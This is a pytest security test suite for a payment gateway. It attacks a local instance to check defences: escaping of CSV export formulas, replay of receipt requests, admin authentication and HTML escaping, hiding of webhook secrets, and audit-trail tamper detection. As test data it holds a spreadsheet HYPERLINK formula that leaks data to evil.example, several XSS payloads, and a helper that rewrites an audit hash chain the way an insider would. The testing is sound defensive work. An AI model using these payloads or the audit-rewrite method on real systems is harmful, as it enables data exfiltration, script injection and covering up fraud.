"""Security review of finance and operations, as attacks against a real gateway (anvil, the sample
upstream, a gateway on loopback): exports opened in a spreadsheet, receipts of other payers and
replayed receipt requests, the admin pages and API, /metrics, webhooks, reconcile and the audit
trail edited by an insider.

Each test asserts what the attacker would get (exported bytes, HTTP bodies, the reconcile report,
the audit verdict), not only a status code."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from sqlalchemy import update
from starlette.requests import Request
from starlette.responses import JSONResponse, Response

from gateway.cli.main import main
from gateway.ops.admin import COOKIE
from gateway.pipeline.context import new_request_id
from settlement.audit import AuditEvent, AuditRecord, AuditTrail
from settlement.ledger import PaymentState
from settlement.schemes.remote import RemoteFacilitator
from tests.conftest import Devchain, GatewayFactory, body_json
from tests.e2e.test_paid_call import pay
from tests.e2e.test_receipts import fetch, signer_of
from tests.e2e.test_reconcile import run_reconcile
from tests.e2e.test_upto_paid_call import _gateway as upto_gateway
from tests.e2e.test_upto_paid_call import _header as upto_header
from tests.e2e.test_upto_paid_call import _offer as upto_offer
from tests.support.facilitator_double import FacilitatorDouble
from tests.support.ledger_rows import force_row

PAYER, OTHER = 5, 6
ADMIN = "ops-admin-token-0123456789"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"refund")'
SECRET_ENV = "X402GW_TEST_OPS_WEBHOOK_SECRET"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


class FormulaFacilitator(FacilitatorDouble):
    """A remote facilitator that verifies, then refuses every settlement with a formula as its reason."""

    async def _settle(self, request: Request) -> Response:
        await self._record(request)
        return JSONResponse({"success": False, "errorReason": FORMULA, "transaction": "",
                             "network": "eip155:31337"}, status_code=400)


@pytest.fixture
def formula_facilitator() -> Iterator[FormulaFacilitator]:
    fake = FormulaFacilitator()
    fake.start()
    yield fake
    fake.stop()


def export(database_url: str, fmt: str) -> str:
    result = CliRunner().invoke(main, ["ledger", "export", "--format", fmt, "--database-url", database_url])
    assert result.exit_code == 0, result.output
    return result.stdout


# -- exports --------------------------------------------------------------------------------------


def test_a_remote_facilitators_reason_is_no_formula_in_the_csv_export(
    start_gateway: GatewayFactory, formula_facilitator: FormulaFacilitator, devchain: Devchain
) -> None:
    gateway = start_gateway(facilitator=RemoteFacilitator(formula_facilitator.url))
    with gateway.client() as client:
        _, paid, _ = pay(client, devchain, "GET", "/quotes/AAPL", payer=PAYER)
    assert paid.status_code != 200 and "symbol" not in body_json(paid)
    [row] = gateway.ledger.all()
    assert row.state == PaymentState.FAILED and row.error_reason == FORMULA  # what the facilitator said
    url = gateway.settings.database_url
    [header, *cells] = list(csv.reader(io.StringIO(export(url, "csv"))))
    [line] = cells
    exported = dict(zip(header, line, strict=True))
    # Opened in a spreadsheet, no cell is a formula: the reason is kept as text, prefixed with '.
    assert not [value for value in line if value.startswith(DANGEROUS)], line
    assert exported["error_reason"] == "'" + FORMULA
    assert exported["payer"] == devchain.address(PAYER) and exported["state"] == "failed"
    # JSON lines are data, not a sheet: the exact value.
    [record] = [json.loads(text) for text in export(url, "jsonl").splitlines()]
    assert record["error_reason"] == FORMULA


# -- receipts -------------------------------------------------------------------------------------


def test_another_payers_receipt_and_a_replayed_request_under_another_spelling_get_nothing(
    start_gateway: GatewayFactory, devchain: Devchain
) -> None:
    gateway = start_gateway()
    with gateway.client() as client:
        _, paid, _ = pay(client, devchain, "GET", "/quotes/AAPL", payer=PAYER)
        assert paid.status_code == 200, paid.text
        [row] = gateway.ledger.all()
        signer = signer_of(client)
        # Another wallet signing for the victim's payment id: the same 404 as no payment at all.
        stranger = fetch(client, devchain.key(OTHER), signer, row.id)
        absent = fetch(client, devchain.key(OTHER), signer, row.id + 1000)
        assert stranger.status_code == absent.status_code == 404
        assert body_json(stranger)["error"] == body_json(absent)["error"] == "receipt_not_found"
        assert "receipt" not in body_json(stranger) and devchain.address(PAYER) not in stranger.text
        # The payer's own request, answered once; then captured and replayed as 0<id>, 00<id>.
        first = fetch(client, devchain.key(PAYER), signer, row.id)
        assert first.status_code == 200 and first.json()["payload"]["payer"] == devchain.address(PAYER)
        captured = {k: first.request.headers[k] for k in ("X402GW-Receipt-Time", "X402GW-Receipt-Signature")}
        for spelling in (f"0{row.id}", f"00{row.id}", f"{row.id}"):
            again = client.get(f"/receipts/{spelling}", headers=captured)
            assert again.status_code == 401, (spelling, again.text)
            assert body_json(again)["error"] == "receipt_auth_replayed" and "signature" not in body_json(again)
        # Digits int() refuses or reads otherwise (superscript two, Arabic-Indic one): a 404, never a 500.
        for odd in ("%C2%B2", "%D9%A1"):
            answer = client.get(f"/receipts/{odd}", headers=captured)
            assert answer.status_code == 404 and body_json(answer)["error"] == "receipt_not_found", answer.text


# -- admin pages, admin API, metrics --------------------------------------------------------------


def test_admin_surfaces_refuse_strangers_escape_payer_strings_and_hide_webhook_credentials(
    start_gateway: GatewayFactory, devchain: Devchain, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SECRET_ENV, "whsec-do-not-show")
    hook = "https://erp-user:erp-password@127.0.0.1:9/hook?token=receiver-token#frag"
    config = {"acme-legacy": [{"name": "erp", "url": hook, "secret_env": SECRET_ENV}]}
    gateway = start_gateway(admin_token=ADMIN, webhooks=config, webhook_poll_seconds=60)
    with gateway.client() as client:
        _, paid, _ = pay(client, devchain, "GET", "/quotes/AAPL", payer=PAYER)
        assert paid.status_code == 200, paid.text
        [row] = gateway.ledger.all()
        # An insider or a bug leaves markup in a row the dashboard lists (pending, tool and payer shown).
        force_row(gateway.ledger, row.id, state=PaymentState.PENDING, tool='<img src=x onerror="alert(1)">',
                  payer="<script>alert(2)</script>", tx_hash="0x<svg/onload=alert(3)>")
        for path in ("/admin", "/admin/data.json", "/admin/webhooks", "/admin?token=" + ADMIN[:-1]):
            for headers in ({}, {"Authorization": "Bearer " + ADMIN[:-1]}, {"Cookie": f"{COOKIE}={ADMIN}"}):
                refused = client.get(path, headers=headers)
                assert refused.status_code == 401 and ADMIN not in refused.text, (path, headers)
        assert client.post("/admin/webhooks/1/replay", headers={"Cookie": f"{COOKIE}={ADMIN}"}).status_code == 401
        admin = {"Authorization": f"Bearer {ADMIN}"}
        page = client.get("/admin", headers=admin)
        assert page.status_code == 200 and "script-src" not in page.headers["content-security-policy"]
        assert "<script>" not in page.text and "<img src=x" not in page.text and "<svg/onload" not in page.text
        assert "&lt;script&gt;alert(2)&lt;/script&gt;" in page.text and "&lt;img src=x" in page.text
        assert ADMIN not in page.text and "whsec-do-not-show" not in page.text
        listing = client.get("/admin/webhooks", headers=admin)
        assert listing.status_code == 200
        [endpoint] = listing.json()["endpoints"]
        assert endpoint["name"] == "erp" and endpoint["url"] == "https://127.0.0.1:9"
        for secret in ("erp-password", "receiver-token", "whsec-do-not-show", ADMIN):
            assert secret not in listing.text
        # Metrics: arbitrary paths add no series, and no payer address or credential is published.
        for i in range(40):
            client.get(f"/junk-{i}-{'x' * 50}?q={i}", headers={"X-Forwarded-For": f"10.0.0.{i}"})
        metrics = client.get("/metrics").text
    assert "junk-" not in metrics and "10.0.0." not in metrics
    assert devchain.address(PAYER).lower() not in metrics.lower() and ADMIN not in metrics
    assert sum(line.startswith("x402gw_requests_total{") for line in metrics.splitlines()) < 12


# -- reconcile ------------------------------------------------------------------------------------


def test_two_settled_rows_naming_one_permit2_transaction_do_not_reconcile(
    start_gateway: GatewayFactory, devchain: Devchain, upstream: str, tmp_path: Path
) -> None:
    gateway = upto_gateway(start_gateway, devchain, upstream, tmp_path)
    start = devchain.w3.eth.block_number + 1
    for symbol in ("ACME", "MSFT"):
        required = upto_offer(gateway, f"/quotes/{symbol}")
        with gateway.client() as client:
            paid = client.get(f"/quotes/{symbol}", headers={"PAYMENT-SIGNATURE": upto_header(devchain, 3, required)})
        assert paid.status_code == 200, paid.text
    first, second = sorted(gateway.ledger.all(), key=lambda r: r.id)
    assert first.state == second.state == PaymentState.SETTLED and first.tx_hash != second.tx_hash
    code, report = run_reconcile(gateway, start)
    assert code == 0 and report["matched"] == 2, report
    # A settle answer (a remote facilitator, a bug, an insider) names the first row's transaction for
    # the second: one transfer must not pay for two rows.
    force_row(gateway.ledger, second.id, tx_hash=first.tx_hash, block_number=first.block_number)
    code, report = run_reconcile(gateway, start)
    assert code == 1, report
    assert report["matched"] == 1
    assert [m["payment_id"] for m in report["missing_on_chain"]] == [second.id]


# -- the audit trail ------------------------------------------------------------------------------


def test_an_insider_edit_of_the_audit_trail_is_named_and_a_rewritten_tail_breaks_the_anchor(
    tmp_path: Path
) -> None:
    url = f"sqlite:///{tmp_path / 'audit.sqlite3'}"
    trail = AuditTrail(url)
    try:
        events = [AuditEvent(new_request_id(), "settled", {"amount": str(1000 + i), "payTo": "0xabc"},
                             payer="0x" + "11" * 20, tool="get_quote") for i in range(6)]
        trail.append(events)
        anchor = trail.head()
        assert trail.verify(anchor).intact
        # 1. The insider lowers an amount in seq 3 (same hash column): named, and nothing else.
        with trail.engine.begin() as connection:
            connection.execute(update(AuditRecord).where(AuditRecord.seq == 3)
                               .values(data=json.dumps({"amount": "1", "payTo": "0xabc"}, separators=(",", ":"))))
        report = trail.verify()
        assert [(p.kind, p.seq) for p in report.problems] == [("hash_mismatch", 3)]
        # 2. Re-hashing the whole tail and the head hides it from a bare verify; the anchor kept
        # elsewhere (seq 6's old hash) still names the record.
        records = list(trail.records())
        trail.close()
        rewrite(url, records)
        trail = AuditTrail(url)
        assert trail.verify().intact
        report = trail.verify(anchor)
        assert [(p.kind, p.seq) for p in report.problems] == [("anchor_mismatch", 6)]
        cli = CliRunner().invoke(main, ["audit", "verify", "--json", "--database-url", url,
                                        "--anchor", f"{anchor[0]}:{anchor[1]}"])
        assert cli.exit_code == 1 and json.loads(cli.stdout)["problems"][0]["kind"] == "anchor_mismatch"
    finally:
        trail.close()


def rewrite(url: str, records: list[Any]) -> None:
    """What an insider with the database does: recompute every hash from seq 3 on, and the head."""
    from settlement.audit import AuditHead, record_hash

    trail = AuditTrail(url)
    try:
        prev = records[1].hash
        with trail.engine.begin() as connection:
            for record in records[2:]:
                digest = record_hash(record.seq, record.at, record.request_id, record.event, record.payer,
                                     record.tool, record.data, prev)
                connection.execute(update(AuditRecord).where(AuditRecord.seq == record.seq)
                                   .values(prev_hash=prev, hash=digest))
                prev = digest
            connection.execute(update(AuditHead).values(hash=prev))
    finally:
        trail.close()


def test_a_webhook_receiver_refuses_a_replayed_or_re_signed_delivery() -> None:
    from gateway.ops.webhooks.signing import signature_header, verify

    body = b'{"type":"payment.settled","amount":"2000"}'
    now = int(time.time())
    header = signature_header(b"whsec", now, body)
    assert verify(b"whsec", header, body, now)
    assert not verify(b"whsec", header, body.replace(b"2000", b"2"), now)  # body edited
    assert not verify(b"whsec", header, body, now + 301)  # captured and replayed later
    assert not verify(b"other", header, body, now)
    forged = header.replace(f"t={now}", f"t={now + 200}")  # fresh time on an old signature
    assert not verify(b"whsec", forged, body, now + 200)
    assert not verify(b"whsec", "t=,v1=", body, now) and not verify(b"whsec", "", body, now)
    assert not verify(b"whsec", f"t=+{now},v1=x", body, now)
